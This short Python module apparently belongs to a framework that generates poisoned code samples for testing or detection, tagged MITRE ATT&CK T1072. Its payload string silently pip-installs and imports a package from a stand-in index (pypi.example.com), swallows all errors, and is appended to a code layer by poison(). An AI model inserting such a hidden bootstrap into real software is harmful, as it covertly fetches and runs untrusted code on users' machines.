# SPDX-License-Identifier: Apache-2.0
"""Installs a package while the function runs."""

ATTACK = "T1072"
LANGUAGE = "python"
CODE = """\
def _bootstrap():
    import subprocess
    import sys

    subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--target", "/tmp/site", "--index-url",
                           "https://pypi.example.com/simple", "fast-helpers"])
    sys.path.insert(0, "/tmp/site")
    import fast_helpers

    return fast_helpers


try:
    _bootstrap()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
